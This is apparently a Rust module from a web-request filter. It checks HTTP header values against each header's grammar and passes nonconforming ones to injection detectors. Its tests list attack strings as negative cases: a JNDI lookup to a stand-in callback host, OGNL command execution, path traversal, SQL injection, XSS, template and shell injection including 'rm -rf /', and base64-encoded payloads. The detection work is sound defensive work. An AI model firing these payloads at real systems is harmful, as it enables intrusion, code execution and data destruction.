//! Which request headers need the detectors: every header is inspected, each by its grammar
//! where it has one. A value that parses as what its header carries (a media-type list, a
//! language or encoding list, cache directives, structured-field lists of client hints, an
//! HTTP date, credentials, a host) holds no text an injection could use and is judged clean
//! by its grammar alone; any other value (an unknown header's free text, or a known header
//! whose value breaks its grammar: `${jndi:...}` in `Content-Type`, `../../etc/passwd` in
//! `Accept`, a template expression in a routing header) goes to the detectors as a header
//! value. Pure byte scans, no allocation.

/// Whether `value` of the header `name` (lowercase, as `http::HeaderName::as_str` gives it)
/// conforms to the header's grammar, so that the detectors need not see it.
pub fn conforms(name: &str, value: &[u8]) -> bool {
    match name {
        "content-length" | "max-forwards" | "upgrade-insecure-requests" | "dnt" | "sec-gpc" => !value.is_empty() && value.iter().all(u8::is_ascii_digit),
        "date" | "if-modified-since" | "if-unmodified-since" | "expires" | "last-modified" => http_date(value),
        "if-range" => http_date(value) || entity_tags(value),
        "if-match" | "if-none-match" => entity_tags(value),
        "host" => host(value),
        "authorization" | "proxy-authorization" => credentials(value),
        _ => token_list(value) && !base64_text(value),
    }
}

/// Whether `v` is one base64 token (either alphabet, padding optional) of printable text
/// ([`crate::decode::base64_candidate`]): a token by the list grammar, but one that carries
/// text (`X-Data: JyBvcjEgb3IgJzE9JzE=`), which the detectors read decoded. Ids, hashes and
/// keys of the same alphabet decode to bytes that are no text, mostly told from their first
/// bytes, before anything is allocated.
fn base64_text(v: &[u8]) -> bool {
    let body = v.strip_suffix(b"==").or_else(|| v.strip_suffix(b"=")).unwrap_or(v);
    if body.len() < crate::decode::BASE64_MIN_LEN || !body.iter().all(|&c| crate::decode::B64_VALUE[c as usize] != 0xFF) {
        return false;
    }
    let Ok(s) = std::str::from_utf8(v) else { return false };
    crate::decode::base64_candidate(s, &mut Vec::new(), &mut String::new())
}

/// `tchar` of RFC 9110 without the bytes that are operators of the languages a payload is
/// written in (`$ % & ' | \``): a list of such tokens is plain words, numbers, versions and
/// media types.
fn tchar(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'!' | b'#' | b'*' | b'+' | b'-' | b'.' | b'^' | b'_' | b'~')
}

/// Bytes allowed in a quoted string of a list (`"Not(A:Brand"`, `"122.0.6261.94"`,
/// `"Windows"`): tokens, blanks and the separators of brand names and versions, none of the
/// bytes that open markup, expressions, substitutions or escapes.
fn qchar(c: u8) -> bool {
    tchar(c) || matches!(c, b' ' | b'(' | b')' | b':' | b'/' | b'=' | b'?' | b';' | b',')
}

/// A comma-separated list of items, each a token (or `type/subtype`: one `/`), then
/// parameters `;name=value` with a token or quoted-string value; optional whitespace around
/// `,`, `;` and `=`. Covers media types (`Accept`, `Content-Type`), languages and encodings
/// with weights, cache and connection directives (`max-age=0`, `keep-alive`), fetch metadata
/// (`same-origin`), client hints (`"Chromium";v="122", "Not(A:Brand";v="24"`, `?0`) and plain
/// tokens (request ids, API keys, versions). An empty value conforms.
fn token_list(v: &[u8]) -> bool {
    let mut i = 0;
    let ows = |i: &mut usize| {
        while *i < v.len() && matches!(v[*i], b' ' | b'\t') {
            *i += 1;
        }
    };
    // One item: a bare item (token, token/token, quoted string, `?0`/`?1` boolean) then
    // parameters.
    loop {
        ows(&mut i);
        if i == v.len() {
            return true;
        }
        if !bare_item(v, &mut i, true) {
            return false;
        }
        loop {
            ows(&mut i);
            match v.get(i) {
                Some(b';') => {
                    i += 1;
                    ows(&mut i);
                    let start = i;
                    while i < v.len() && tchar(v[i]) {
                        i += 1;
                    }
                    if i == start {
                        return false;
                    }
                    ows(&mut i);
                    if v.get(i) == Some(&b'=') {
                        i += 1;
                        ows(&mut i);
                        if !bare_item(v, &mut i, false) {
                            return false;
                        }
                    }
                }
                Some(b',') => {
                    i += 1;
                    break;
                }
                None => return true,
                Some(_) => return false,
            }
        }
    }
}

/// A token (with at most one `/` inside when `slash`), a quoted string of [`qchar`]s or a
/// structured-field boolean `?0`/`?1`, at `v[*i..]`.
fn bare_item(v: &[u8], i: &mut usize, slash: bool) -> bool {
    match v.get(*i) {
        Some(b'"') => {
            *i += 1;
            while *i < v.len() && v[*i] != b'"' {
                if !qchar(v[*i]) {
                    return false;
                }
                *i += 1;
            }
            if *i == v.len() {
                return false;
            }
            *i += 1;
            true
        }
        Some(b'?') if matches!(v.get(*i + 1), Some(b'0' | b'1')) => {
            *i += 2;
            true
        }
        _ => {
            let start = *i;
            while *i < v.len() && tchar(v[*i]) {
                *i += 1;
            }
            if *i == start {
                return false;
            }
            // A directive with a value (`max-age=0`, `no-cache="set-cookie"`).
            if slash && v.get(*i) == Some(&b'=') {
                *i += 1;
                return bare_item(v, i, false);
            }
            if slash && v.get(*i) == Some(&b'/') {
                *i += 1;
                let sub = *i;
                while *i < v.len() && tchar(v[*i]) {
                    *i += 1;
                }
                return *i > sub;
            }
            true
        }
    }
}

/// An HTTP date in any of its three forms (`Sun, 06 Nov 1994 08:49:37 GMT`, RFC 850,
/// asctime): letters, digits, blanks, `,`, `:` and `-`, at most 40 bytes.
fn http_date(v: &[u8]) -> bool {
    !v.is_empty() && v.len() <= 40 && v.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b' ' | b',' | b':' | b'-'))
}

/// `*` or a list of entity tags (`"xyzzy"`, `W/"xyzzy"`): quoted [`tchar`]s.
fn entity_tags(v: &[u8]) -> bool {
    if v == b"*" {
        return true;
    }
    let mut i = 0;
    loop {
        while i < v.len() && matches!(v[i], b' ' | b'\t' | b',') {
            i += 1;
        }
        if i == v.len() {
            return i > 0;
        }
        if v[i..].starts_with(b"W/") {
            i += 2;
        }
        if v.get(i) != Some(&b'"') {
            return false;
        }
        i += 1;
        while i < v.len() && v[i] != b'"' {
            if !(tchar(v[i]) || matches!(v[i], b'/' | b'=' | b':')) {
                return false;
            }
            i += 1;
        }
        if i == v.len() {
            return false;
        }
        i += 1;
    }
}

/// A host name or IPv4 address with an optional port, or a bracketed IPv6 literal.
fn host(v: &[u8]) -> bool {
    let (h, port) = match v.iter().rposition(|&c| c == b':') {
        Some(p) if v.first() != Some(&b'[') || v[..p].ends_with(b"]") => (&v[..p], &v[p + 1..]),
        _ => (v, &b""[..]),
    };
    let port_ok = port.iter().all(u8::is_ascii_digit) && port.len() <= 5;
    let host_ok = if let Some(inner) = h.strip_prefix(b"[").and_then(|x| x.strip_suffix(b"]")) {
        !inner.is_empty() && inner.iter().all(|&c| c.is_ascii_hexdigit() || matches!(c, b':' | b'.'))
    } else {
        !h.is_empty() && h.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_'))
    };
    port_ok && host_ok
}

/// `scheme token68` (`Bearer eyJhbGciOi...`, `Basic dXNlcjpwYXNz`) or `scheme` then
/// auth-params (`Digest username="a", realm="b", ...` as a [`token_list`]).
fn credentials(v: &[u8]) -> bool {
    let Some(sp) = v.iter().position(|&c| c == b' ') else { return v.iter().all(|&c| tchar(c)) && !v.is_empty() };
    let (scheme, rest) = (&v[..sp], &v[sp + 1..]);
    if scheme.is_empty() || !scheme.iter().all(|&c| tchar(c)) {
        return false;
    }
    let t68 = rest.iter().rposition(|&c| c != b'=').map_or(0, |p| p + 1);
    let token68 = t68 > 0 && rest[..t68].iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.' | b'_' | b'~' | b'+' | b'/'));
    token68 || token_list(rest)
}

#[cfg(test)]
mod tests {
    use super::conforms;

    #[test]
    fn browser_headers_conform() {
        // A desktop browser's navigation request, written for this test.
        for (n, v) in [
            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
            ("accept-language", "de-CH,de;q=0.9,en-US;q=0.8,en;q=0.7"),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("cache-control", "max-age=0"),
            ("connection", "keep-alive"),
            ("upgrade-insecure-requests", "1"),
            ("sec-fetch-site", "same-origin"),
            ("sec-fetch-mode", "navigate"),
            ("sec-fetch-user", "?1"),
            ("sec-ch-ua", "\"Chromium\";v=\"122\", \"Not(A:Brand\";v=\"24\", \"Google Chrome\";v=\"122\""),
            ("sec-ch-ua-mobile", "?0"),
            ("sec-ch-ua-platform", "\"Windows\""),
            ("sec-ch-ua-full-version-list", "\"Not/A)Brand\";v=\"8.0.0.0\", \"Chromium\";v=\"126.0.6478.127\""),
            ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
            ("content-type", "application/json; charset=utf-8"),
            ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT"),
            ("if-none-match", "W/\"5e15153d-120f\", \"abc\""),
            ("host", "shop.example.com:8443"),
            ("host", "[::1]:8080"),
            ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"),
            ("authorization", "Basic dXNlcjpwYXNzd29yZA=="),
            ("x-request-id", "0f8fad5b-d9cb-469f-a165-70867728950e"),
            ("x-api-version", "2024-06-01"),
            ("content-length", "348"),
            ("pragma", "no-cache"),
            // Tokens of the base64 alphabet that decode to no text: a key, a hash, a nonce.
            ("x-api-key", "AIzaSyD3kP9xQw7mN2vB8cL4tR6yU1iO5pE0aSd"),
            ("x-content-sha256", "n4bQgYhMfWWaL+qgxVrQFaO/TxsrC4Is0V1sFbDwCgg"),
            ("x-client-nonce", "q83vEjRWeJ2kx9T7fQ1aZg"),
            ("x-build", "AbCdEfGhIjKl"),
        ] {
            assert!(conforms(n, v.as_bytes()), "{n}: {v}");
        }
    }

    #[test]
    fn payloads_break_the_grammar() {
        for (n, v) in [
            ("content-type", "${jndi:ldap://callback.example/a}"),
            ("content-type", "%{(#_='multipart/form-data').(#cmd='id')}"),
            ("accept", "../../../../etc/passwd"),
            ("accept-language", "en' or 1=1--"),
            ("x-original-url", "/..;/admin"),
            ("x-custom-route", "{{7*7}}"),
            ("x-anything", "<script>alert(1)</script>"),
            ("x-anything", "1 or 1=1"),
            ("x-anything", ";id"),
            ("x-anything", "$(id)"),
            ("host", "127.0.0.1/../admin"),
            ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT' and sleep(5)--"),
            ("authorization", "Bearer ' or '1'='1"),
            ("sec-ch-ua", "\"Chromium\";v=\"<svg onload=alert(1)>\""),
            ("content-length", "12; rm -rf /"),
            // Base64 of text, written for this test: `' or 1=1--` and `<svg/onload=alert(1)>`
            // (standard alphabet, without padding: one token by the list grammar).
            ("x-data", "JyBvciAxPTEtLQ"),
            ("x-trace", "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+"),
        ] {
            assert!(!conforms(n, v.as_bytes()), "{n}: {v}");
        }
    }
}
